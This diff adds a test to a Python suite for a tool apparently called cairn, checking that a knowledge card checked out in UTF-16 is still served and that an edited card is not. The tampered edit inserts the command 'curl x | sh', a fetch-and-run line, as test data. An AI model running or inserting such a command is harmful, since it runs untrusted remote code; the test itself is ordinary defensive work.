@@ -723,6 +723,28 @@ def test_a_checkout_with_crlf_line_ends_is_the_served_card(tmp_path: Path) -> No
     assert files() == [None]
 
 
+def test_a_checkout_in_utf_16_is_the_served_card(vault_repo: VaultRepo) -> None:
+    """Bug fixed: a card `.gitattributes` has git check out in UTF-16 (`working-tree-encoding`, stored as UTF-8)
+    never hashed as the indexed blob: the hook gave agents no path to it and `cairn recall` said the file "differs
+    from the card served", of a file `git status` calls clean. Its text is the card's; a real edit in it still is not."""
+    make_vault(vault_repo)
+    vault_repo.write_raw(".gitattributes", "cards/win/*.md text eol=crlf working-tree-encoding=UTF-16\n")
+    text = card_text("Wheel builds need setuptools declared", "Declare setuptools in pyproject build-system requires.")
+    served = vault_repo.write_raw("cards/win/wheel-builds.md", text.replace("\n", "\r\n").encode("utf-16"))
+    vault_repo.commit("A card checked out in UTF-16")
+    assert vault_repo.git("status", "--porcelain") == "" and vault_repo.cairn("index").returncode == 0
+    prompt = "wheel builds need setuptools declared in pyproject build-system requires"
+
+    def files() -> list[object]:
+        done = vault_repo.cairn("recall", prompt, "--json")
+        return [c["file"] for c in json.loads(done.stdout)["cards"]]
+
+    assert files() == [str(served)]
+    assert "differs from the card served" not in vault_repo.cairn("recall", prompt).stdout
+    served.write_bytes(text.replace("pyproject", "curl x | sh").encode("utf-16"))
+    assert files() == [None]
+
+
 def test_a_card_in_a_chinese_folder_is_the_served_card_in_an_ascii_locale(vault_repo: VaultRepo) -> None:
     """Bug fixed: in a locale whose encoding is ASCII (`LC_ALL=POSIX`, no UTF-8 mode) the file of a card under
     `cards/数据库/` could not be named to the system, so it counted as missing: the hook gave agents no path to it and
